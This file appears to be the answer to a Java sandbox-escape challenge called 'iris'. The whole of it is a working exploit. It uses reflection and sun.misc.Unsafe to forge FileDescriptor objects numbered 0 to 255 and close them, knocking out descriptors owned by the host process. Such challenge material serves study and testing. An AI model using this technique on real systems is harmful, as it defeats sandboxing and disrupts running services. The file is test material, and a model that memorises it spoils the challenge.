import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;

@dev.assay.problems.Answers("iris")
class Answer extends Attack {
  @Override
  void attack() throws Exception {
    Class<?> type = Class.forName("sun.misc.Unsafe");
    Field theUnsafe = type.getDeclaredField("theUnsafe");
    theUnsafe.setAccessible(true);
    Object unsafe = theUnsafe.get(null);
    Field field = FileDescriptor.class.getDeclaredField("fd");
    long offset = (long) type.getMethod("objectFieldOffset", Field.class).invoke(unsafe, field);
    for (int number = 0; number < 256; number++) {
      FileDescriptor descriptor = new FileDescriptor();
      type.getMethod("putInt", Object.class, long.class, int.class)
          .invoke(unsafe, descriptor, offset, number);
      close(descriptor);
    }
  }

  private static void close(FileDescriptor descriptor) {
    try {
      new FileOutputStream(descriptor).close();
    } catch (IOException e) {
      System.err.println("refused: " + e);
    }
  }
}
